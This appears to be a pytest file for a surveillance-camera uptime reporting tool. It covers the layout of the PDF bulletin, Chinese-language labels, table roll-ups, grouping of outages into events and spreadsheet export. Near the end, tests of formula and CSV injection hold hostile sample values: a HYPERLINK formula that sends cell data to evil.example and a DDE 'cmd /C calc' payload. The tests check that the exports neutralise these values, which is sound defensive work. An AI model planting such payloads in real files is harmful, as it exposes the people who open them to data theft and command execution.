"""The bulletin an official can send (issue 17): its print layout in a real Chromium, its PDF,
words a reader understands, its header notes, tables that add up, one row per outage event,
a workbook that prints, and text that never turns into a formula (issue 16.4, 16.12)."""

from __future__ import annotations

import csv
import datetime as dt
import html as htmllib
import re
import subprocess
import sys
import time
from collections import Counter
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from camwatch.config import ReportConfig, TargetsConfig
from camwatch.errors import Problem
from camwatch.model import REASON_ZH
from camwatch.reports import pdf as pdfmod
from camwatch.reports.compute import Bulletin, ReportSettings, compute_bulletin
from camwatch.reports.csvjson import bulletin_json, write_csv
from camwatch.reports.events import OutageRow, group_outages
from camwatch.reports.html import render_html
from camwatch.reports.period import Period
from camwatch.reports.quality import data_quality, rejected_zh
from camwatch.reports.tables import all_tables, summary_table
from camwatch.reports.xlsx import EMPTY, HEADER_ROW, write_xlsx
from camwatch.rules.rates import Targets, cell_of, compute_rates, roll_up
from camwatch.store.sqlite import SqliteStore
from tests.bulletin_demo import NOW, demo_bulletin
from tests.conftest import need_binary
from tests.test_report import CHANNELS, SETTINGS, TZ, A, C, chan, make_store, ts

H = 3600.0


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Bulletin:
    return demo_bulletin(tmp_path_factory.mktemp("demo"))


@pytest.fixture(scope="module")
def fixture_bulletin() -> Bulletin:
    return compute_bulletin(make_store(), CHANNELS, Period.month("2026-11", TZ), SETTINGS,
                            site="鹿邑县", inventory_source="test", now=ts(2027, 1, 5))


# --- print layout, in a real Chromium -----------------------------------------------------


def _pdf_pages(pdf: Path) -> list[str]:
    pdftotext = need_binary("pdftotext")
    out = subprocess.run([pdftotext, "-layout", str(pdf), "-"], capture_output=True,
                         text=True, timeout=60, check=True).stdout
    return out.split("\f")[:-1] if out.endswith("\f") else out.split("\f")


def _nowrap_cells(page: str) -> Counter[str]:
    """The text of every table cell that must stay on one line (not class "w")."""
    cells = re.findall(r'<td(?: class="(?:n|ok|bad)")?>([^<]+)</td>', page)
    return Counter(htmllib.unescape(c) for c in cells if c != "-")


@pytest.mark.peer
@pytest.mark.slow
def test_demo_month_prints_in_six_pages_plus_annexes(demo: Bulletin, tmp_path: Path) -> None:
    """The 2,000-channel demo month through Chromium: at most 6 pages before the first annex;
    every page has the title at its head and 第 x 页 共 y 页 at its foot; no cell that must
    not wrap (numbers, percentages, names, verdicts) is split over two lines."""
    need_binary("chromium")
    page = render_html(demo)
    pdf = tmp_path / "demo.pdf"
    pdfmod.html_to_pdf(page, pdf)
    pages = _pdf_pages(pdf)
    n = len(pages)
    first_annex = next(i for i, text in enumerate(pages, start=1) if "附件一" in text
                       and "附件一 村排名" in text)
    assert first_annex - 1 <= 6, f"the body takes {first_annex - 1} pages"
    assert n > first_annex  # the annexes follow
    for i, text in enumerate(pages, start=1):
        assert re.search(rf"第\s*{i}\s*页\s*共\s*{n}\s*页", text), f"page {i}: no number"
        assert "鹿邑县 视频监控联网在线情况通报（2026-11）" in text.splitlines()[0]
    flat = re.sub(r"[ \t]+", " ", "\n".join(pages))
    missing = {cell: count for cell, count in _nowrap_cells(page).items()
               if flat.count(re.sub(r"\s+", " ", cell)) < count}
    assert not missing, f"cells wrapped or lost in the PDF: {sorted(missing)[:10]}"
    percents = Counter(re.findall(r"\d{1,3}\.\d\d%", page))
    assert percents and all(flat.count(p) >= k for p, k in percents.items())
    # the header says what the month is
    assert "周期未结束，截至 2026-11-30 20:22" in pages[0]
    assert "监测覆盖 平均每通道 11 分钟 / 本月 30 天，0.03%" in pages[0]
    assert "上期（2026-10）无监测数据" in pages[0]


@pytest.mark.peer
def test_report_format_pdf(tmp_path: Path) -> None:
    from tests.test_report import add_report_arguments, cmd_report, parse, seeded_config

    need_binary("chromium")
    cfg = seeded_config(tmp_path)
    out = tmp_path / "通报.pdf"
    assert cmd_report(parse(add_report_arguments,
                            ["-c", str(cfg), "--month", "2026-11", "-o", str(out)])) == 0
    assert out.read_bytes()[:5] == b"%PDF-"
    text = "\n".join(_pdf_pages(out))
    assert "80.63%" in text and re.search(r"第\s*1\s*页\s*共\s*\d+\s*页", text)


def test_pdf_without_chromium_names_the_package(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    from tests.test_report import add_report_arguments, cmd_report, parse, write_config

    cfg = write_config(tmp_path)
    SqliteStore(tmp_path / "cw.db").close()
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    out = tmp_path / "r.pdf"
    assert cmd_report(parse(add_report_arguments,
                            ["-c", str(cfg), "--month", "2026-11", "-o", str(out)])) == 1
    err = capsys.readouterr().err
    assert "'chromium'" in err and "apt install chromium" in err
    assert not out.exists()


def test_pdf_is_bounded_in_time_and_cleans_up(tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """A Chromium that hangs is killed with the processes it started, after the timeout;
    nothing is left in the temporary directory and no PDF is written."""
    fake = tmp_path / "chromium"
    pidfile = tmp_path / "child.pid"
    fake.write_text(f"#!{sys.executable}\nimport os, subprocess, sys, time\n"
                    f"child = subprocess.Popen([sys.executable, '-c', 'import time; "
                    f"time.sleep(600)'])\nopen({str(pidfile)!r}, 'w').write(str(child.pid))\n"
                    "time.sleep(600)\n", encoding="utf-8")
    fake.chmod(0o755)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(tmp))
    out = tmp_path / "r.pdf"
    with pytest.raises(pdfmod.PdfError, match="did not finish"):
        pdfmod.html_to_pdf("<p>x</p>", out, chromium=str(fake), timeout=3.0)
    assert not out.exists() and list(tmp.iterdir()) == []
    child = int(pidfile.read_text())
    deadline = time.monotonic() + 30
    while _alive(child):  # killed at once; reaping the orphan is init's, so poll
        assert time.monotonic() < deadline, f"process {child} outlived the timeout"
        time.sleep(0.05)


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except FileNotFoundError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] != "Z"


def test_pdf_failure_reports_chromium_output(tmp_path: Path) -> None:
    fake = tmp_path / "chromium"
    fake.write_text("#!/bin/sh\necho 'cannot open display' >&2\nexit 3\n", encoding="utf-8")
    fake.chmod(0o755)
    with pytest.raises(pdfmod.PdfError, match=r"exited with 3.*cannot open display"):
        pdfmod.html_to_pdf("<p>x</p>", tmp_path / "r.pdf", chromium=str(fake), timeout=30)


def test_css_header_cannot_escape_its_string() -> None:
    from camwatch.reports.html import _css_string

    text = _css_string('鹿邑"}</style><script>x</script>')
    assert '"' not in text[1:-1] and "<" not in text and "}" not in text[1:-1]


# --- words a reader understands -----------------------------------------------------------


def test_reasons_in_chinese_everywhere_a_person_reads(fixture_bulletin: Bulletin,
                                                      tmp_path: Path) -> None:
    codes = ("timeout", "refused", "no_media")
    page = render_html(fixture_bulletin)
    assert "超时" in page and "拒绝连接" in page and "无视频流" in page
    for code in codes:
        assert code not in page
    for table in all_tables(fixture_bulletin) + all_tables(fixture_bulletin,
                                                           outage_events=False):
        for row in table.rows:
            for cell in row:
                assert cell not in codes, (table.title, row)
    doc = bulletin_json(fixture_bulletin)
    assert {(o["reason"], o["reason_zh"]) for o in doc["outages"]} == {
        ("timeout", "超时"), ("refused", "拒绝连接"), ("no_media", "无视频流")}
    assert set(REASON_ZH.values()) >= {o["reason_zh"] for o in doc["outages"]}


def test_data_quality_in_chinese_only() -> None:
    findings = data_quality(CHANNELS, [
        Problem("台账.csv", "row 57, column 设备编码", "duplicate id '41162800001320000001' "
                                                   "(first at row 3)"),
        Problem("台账.csv", "row 58, column 安装日期", "expected a date like 2026-11-23, "
                                                   "got 'yesterday'"),
        Problem("inv.yaml", "item 4, column id", "missing id"),
        Problem("台账.csv", "row 60, column 设备编码", "something nobody translated"),
    ])
    texts = [f.problem for f in findings] + [f.field for f in findings]
    for t in texts:
        # Chinese only: no English words (the values quoted from the row excepted)
        assert not re.search(r"[A-Za-z]{3,}", re.sub(r"'[^']*'|\S+\.(csv|yaml)", "", t)), t
    rejected = [f for f in findings if "未导入" in f.problem]
    assert [f.problem for f in rejected] == [
        "台账.csv 第 57 行：设备编码重复，该行未导入",
        "台账.csv 第 58 行：日期格式不对，应为 2026-11-23（实为 'yesterday'），该行未导入",
        "inv.yaml 第 4 行：缺少设备编码，该行未导入",
        "台账.csv 第 60 行：取值不符合要求，该行未导入"]
    assert [f.field for f in rejected] == ["设备编码", "安装日期", "设备编码", "设备编码"]
    assert rejected_zh(Problem("x.csv", "", "more than 10,000 empty rows in a row; "
                                             "stopped reading")).field == "整行"


# --- the header: coverage, a running period, no previous data -----------------------------


def test_header_notes_coverage_running_and_previous(fixture_bulletin: Bulletin) -> None:
    running = compute_bulletin(make_store(), CHANNELS, Period.month("2026-11", TZ), SETTINGS,
                               now=ts(2026, 11, 11))
    page = render_html(running)
    assert "周期未结束，截至 2026-11-11 00:00" in page
    # 10 days of November watched, 4 channels counted: A, C, D, E online (C exempted from 11-03)
    assert running.counted_channels == 4  # B connects on 11-16
    assert "监测覆盖 平均每通道 8.0 天 / 本月 30 天" in page
    assert "上期为 2026-10" in page  # October has data: "-" explained, not "no data"
    over = render_html(fixture_bulletin)
    assert "周期未结束" not in over
    # a month with nothing before it
    first = compute_bulletin(make_store(), CHANNELS, Period.month("2026-10", TZ), SETTINGS,
                             now=ts(2027, 1, 5))
    assert first.previous_monitored_ms == 0
    assert "上期（2026-09）无监测数据" in render_html(first)
    assert bulletin_json(first)["period"]["previous_has_data"] is False


def test_coverage_is_monitored_over_the_period(fixture_bulletin: Bulletin) -> None:
    b = fixture_bulletin
    # counted: A C D E the whole month (720 h each), B from 11-16 (360 h): 3240 h
    assert b.counted_ms == 3240 * 3_600_000
    assert b.coverage == pytest.approx(2968 / 3240)
    assert b.ended


# --- tables that add up -------------------------------------------------------------------


def test_summary_all_rows_have_no_target_and_no_verdict(fixture_bulletin: Bulletin) -> None:
    t = summary_table(fixture_bulletin)
    h = t.headers
    alls = [r for r in t.rows if r[1] == "全部"]
    assert alls and all(r[h.index("目标")] is None and r[h.index("是否达标")] == ""
                        for r in alls)
    # single county: its rows only, not 全域 again
    assert {r[0] for r in t.rows} == {"鹿邑县"}
    one = {r[1]: r for r in t.rows}
    # per class: install and cloud-connect rates. 一类: A, B planned/installed/connected
    assert one["一类"][h.index("应安装"):h.index("上云率") + 1] == [2, 2, 1.0, 2, 1.0]
    # 三类: C D E G planned, C D E installed and connected (G planned only)
    assert one["三类"][h.index("应安装"):h.index("上云率") + 1] == [4, 3, 0.75, 3, 1.0]
    assert one["三类"][h.index("目标")] == 0.95 and one["三类"][h.index("是否达标")] == "未达标"


def test_summary_of_several_counties_has_the_site_and_each_county() -> None:
    other = [replace(chan(20 + i, 1, "城郊乡", "王庄", "移动"), county="郸城县",
                     county_code="411625") for i in range(2)]
    b = compute_bulletin(make_store(), CHANNELS + other, Period.month("2026-11", TZ),
                         SETTINGS, now=ts(2027, 1, 5))
    t = summary_table(b)
    assert [r[0] for r in t.rows if r[1] == "全部"] == ["全域", "鹿邑县", "郸城县"]


def test_bulletin_rolls_up_with_the_rates_module(fixture_bulletin: Bulletin) -> None:
    """One roll-up: the bulletin's end-of-period snapshot per scope and class is what
    rules/rates.py (the daemon's) computes from the same states. At 12-01 00:00 A, B, C, E
    are online and D offline."""
    from tests.test_report import B, D, E

    end = {A: "online", B: "online", C: "online", D: "offline", E: "online"}
    rows = compute_rates(CHANNELS, lambda cid: end.get(cid, "unknown"),
                         Targets(TargetsConfig()))
    daemon = {(r.scope, r.klass): (r.online, r.offline, r.unknown) for r in rows
              if r.project is None}
    b = fixture_bulletin
    seen = 0
    for f in [b.summary, *b.counties, *b.townships, *b.villages, *b.operators,
              *b.operator_townships]:
        assert daemon[(f.scope, None)] == (f.snap.online, f.snap.offline, f.snap.unknown)
        for p in f.classes:
            if p.channels:
                assert daemon[(f.scope, p.klass)] == (p.snap.online, p.snap.offline,
                                                      p.snap.unknown)
                seen += 1
    assert seen >= 10


def test_roll_up_table() -> None:
    ch = chan(1, 1, "城关镇", "东关", "移动")
    nowhere = replace(chan(2, 3, "", "", "电信"), project="")
    rolled = roll_up({cell_of(ch): [1, 10], cell_of(nowhere): [2, 20]})
    assert rolled[((), None, None)] == [3, 30]
    assert rolled[((), 1, None)] == [1, 10] and rolled[((), 3, None)] == [2, 20]
    assert rolled[((), None, "雪亮工程")] == [1, 10]
    assert ((("county", "鹿邑县"), ("township", "城关镇")), None, None) in rolled
    # a channel with no township is in no township's row, but in its county's and operator's
    assert rolled[((("county", "鹿邑县"),), None, None)] == [3, 30]
    assert not any(dict(k[0]).get("township") == "" for k in rolled)
    assert rolled[((("operator", "电信"),), None, None)] == [2, 20]


# --- one event, one row -------------------------------------------------------------------


def _row(n: int, township: str, village: str, start: float, reason: str = "refused",
         end: float | None = None) -> OutageRow:
    ch = chan(n, 3, township, village, "移动")
    return OutageRow(ch, start, end, None if end is None else end - start, reason)


T0 = ts(2026, 11, 5, 10)
TOTALS = {("鹿邑县", "城关镇"): 10, ("鹿邑县", "城关镇", "东关"): 4,
          ("鹿邑县", "城关镇", "西关"): 6, ("鹿邑县", "白马乡"): 50,
          ("鹿邑县", "白马乡", "李庄"): 40}


@pytest.mark.parametrize(("rows", "expected"), [
    # a township: 8 of its 10 channels (share 0.8) in two villages, within 300 s
    ([_row(i, "城关镇", "东关" if i < 4 else "西关", T0 + 30 * i) for i in range(8)],
     [("township", 8)]),
    # 7 of 10: not the township; its first village (东关 4/4) is one event, 西关 3 are single
    ([_row(i, "城关镇", "东关" if i < 4 else "西关", T0 + 30 * i) for i in range(7)],
     [("village", 4), ("channel", 1), ("channel", 1), ("channel", 1)]),
    # the window: 301 s after the first start is another group
    ([_row(i, "城关镇", "东关", T0 + (301 if i == 3 else i)) for i in range(4)],
     [("channel", 1), ("channel", 1), ("channel", 1), ("channel", 1)]),
    ([_row(i, "城关镇", "东关", T0 + (300 if i == 3 else i)) for i in range(4)],
     [("village", 4)]),
    # min_channels: 3 channels of a 3-channel place are not a mass outage
    ([_row(i, "城关镇", "东关", T0 + i) for i in range(3)],
     [("channel", 1)] * 3),
    # channels behind a host that is down, 5 of a 40-channel village: one event
    ([_row(i, "白马乡", "李庄", T0 + i, "host_down") for i in range(5)], [("host", 5)]),
    ([_row(i, "白马乡", "李庄", T0 + i, "host_down") for i in range(3)], [("channel", 1)] * 3),
])
def test_outages_grouped_into_events(rows: list[OutageRow],
                                     expected: list[tuple[str, int]]) -> None:
    events = group_outages(rows, T0 + 86400, 300.0, 4, 0.8, TOTALS)
    assert sorted((e.level, e.channels) for e in events) == sorted(expected)
    assert sum(e.channels for e in events) == len(rows)


def test_event_row_carries_count_cause_and_duration() -> None:
    rows = [_row(i, "城关镇", "东关" if i < 5 else "西关", T0 + i,
                 "host_down" if i % 3 == 0 else "refused", T0 + 600 + i) for i in range(9)]
    rows.append(_row(9, "城关镇", "西关", T0 + 9))  # still offline at the end
    (e,) = group_outages(rows, T0 + 3600, 300.0, 4, 0.8, TOTALS)
    assert (e.level, e.channels, e.still_offline, e.total) == ("township", 10, 1, 10)
    assert e.start == T0 and e.end is None and e.seconds == 3600
    assert e.cause() == "拒绝连接 7、上级设备离线 3"
    assert e.place == "城关镇"


def test_demo_township_outage_is_one_row(demo: Bulletin) -> None:
    groups = [e for e in demo.events if e.level == "township"]
    assert len(groups) == 1
    (g,) = groups
    # the uplink outage, and the township's dead channels found in the same five minutes
    assert g.channels >= 0.8 * g.total and g.still_offline < 0.1 * g.channels
    assert {r for r, _ in g.reasons()[:2]} == {"拒绝连接", "上级设备离线"}
    # the per-channel list stays in the machine formats
    assert len(demo.outages) > len(demo.events) + g.channels - 2
    doc = bulletin_json(demo)
    assert len(doc["outages"]) == len(demo.outages)
    assert sum(1 for e in doc["events"] if e["level"] == "township") == 1


# --- the village annex: report.max_villages ------------------------------------------------


def test_max_villages_setting_and_annex(demo: Bulletin) -> None:
    assert ReportConfig().max_villages == 30
    with pytest.raises(ValueError, match="max_villages"):
        ReportConfig(max_villages=-1)
    page = render_html(demo, max_villages=5)
    annex = page[page.index("附件一 村排名"):]
    annex = annex[:annex.index("</table>")]
    assert "在线率最低的 5 个村" in page and annex.count("<tr>") == 1 + 5
    all_villages = render_html(demo, max_villages=0)
    annex = all_villages[all_villages.index("附件一 村排名"):]
    assert annex[:annex.index("</table>")].count("<tr>") == 1 + len(demo.villages)
    assert demo.settings.max_villages == 30
    settings = ReportSettings.from_config(
        __import__("camwatch.config", fromlist=["Config"]).Config.model_validate(
            {"inventory": {"path": "x.csv"}, "report": {"max_villages": 7}}))
    assert settings.max_villages == 7 and settings.event_window == 300.0


# --- XLSX ---------------------------------------------------------------------------------


def test_every_sheet_has_title_filter_and_print_setup(fixture_bulletin: Bulletin,
                                                      tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    write_xlsx(fixture_bulletin, path)
    wb = openpyxl.load_workbook(path)
    assert wb.properties.title == "鹿邑县 视频监控联网在线情况通报（2026-11）"
    for ws in wb:
        title, period = ws["A1"].value, ws["A2"].value
        assert title.startswith("鹿邑县 视频监控联网在线情况通报（2026-11）"), ws.title
        assert "统计周期 2026-11" in period and "生成 2027-01-05" in period
        assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith(f"A{HEADER_ROW}:")
        assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert ws.page_setup.paperSize == 9
        assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text
    assert wb["乡镇排名"].page_setup.orientation == "landscape"
    assert wb["统计方法"].page_setup.orientation == "landscape"
    # empty tables: one "本期无" row, in one style
    empty = [ws for ws in wb if ws.max_row == HEADER_ROW + 1
             and ws.cell(HEADER_ROW + 1, 1).value == EMPTY]
    assert {ws.title for ws in empty} >= {"本期修复"} or fixture_bulletin.repaired
    styles = {(ws.cell(HEADER_ROW + 1, 1).font.i, ws.cell(HEADER_ROW + 1, 1).font.color.rgb)
              for ws in empty}
    assert len(styles) <= 1


def test_xlsx_empty_sheets_say_so(tmp_path: Path) -> None:
    b = compute_bulletin(SqliteStore(":memory:"), CHANNELS, Period.month("2026-11", TZ),
                         SETTINGS, now=ts(2027, 1, 5))
    write_xlsx(b, tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    empty = [ws for ws in wb if ws.cell(HEADER_ROW + 1, 1).value == EMPTY]
    assert {ws.title for ws in empty} >= {"离线超3天", "批量离线", "本期修复", "报备"}
    assert len({(ws.cell(HEADER_ROW + 1, 1).font.i, ws.cell(HEADER_ROW + 1, 1).font.color.rgb)
                for ws in empty}) == 1


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE_TOWN = "=1+1镇"


def _hostile_bulletin(name: str = HOSTILE_NAME, town: str = HOSTILE_TOWN) -> Bulletin:
    channels = [replace(c, name=name, township=town) if c.id in (A, C) else c
                for c in CHANNELS]
    store = make_store()
    store.add_exemption(A, ts(2026, 11, 1), ts(2026, 11, 2), "@SUM(1+1)*cmd|' /C calc'!A0",
                        now=0.0)
    return compute_bulletin(store, channels, Period.month("2026-11", TZ), SETTINGS,
                            now=ts(2027, 1, 5))


def test_xlsx_writes_text_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    write_xlsx(_hostile_bulletin(), path)
    wb = openpyxl.load_workbook(path)
    found = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in (HOSTILE_NAME, HOSTILE_TOWN):
                    assert cell.data_type == "s"
                    found += 1
    assert found >= 10  # the names and townships are there, as text


def test_csv_cells_that_would_run_get_a_quote(tmp_path: Path) -> None:
    b = _hostile_bulletin()
    files = write_csv(b, tmp_path / "csv")
    values = []
    for f in files:
        with f.open(encoding="utf-8-sig", newline="") as fh:
            values += [v for row in csv.reader(fh) for v in row]
    assert "'" + HOSTILE_NAME in values and "'" + HOSTILE_TOWN in values
    assert HOSTILE_NAME not in values and HOSTILE_TOWN not in values
    def number(v: str) -> bool:
        try:
            float(v)
        except ValueError:
            return False
        return True

    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not number(v)]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert "鹿邑县" in values  # ordinary text untouched


def test_control_characters_do_not_stop_the_workbook(tmp_path: Path) -> None:
    b = _hostile_bulletin(name="东关\x00路口\x01\x1f", town="城关\x0b镇")
    path = tmp_path / "r.xlsx"
    write_xlsx(b, path)
    values = {c.value for ws in openpyxl.load_workbook(path) for row in ws.iter_rows()
              for c in row}
    assert "东关路口" in values and "城关镇" in values
    write_csv(b, tmp_path / "csv")
    render_html(b)


# --- the demo's figures are unchanged by the new roll-up ---------------------------------


def test_demo_rates_match_a_direct_count(demo: Bulletin) -> None:
    """Σ over townships of online / monitored time equals the site's (channels without a
    township aside): the roll-up adds cells, it never averages."""
    s = demo.summary
    assert sum(f.tw.online for f in demo.townships) == s.tw.online
    assert sum(f.tw.connected for f in demo.townships) == s.tw.connected
    assert s.connected == sum(f.connected for f in demo.townships) == 2000
    assert demo.end == NOW and not demo.ended
    assert dt.datetime.fromtimestamp(demo.end, TZ).strftime("%H:%M") == "20:22"
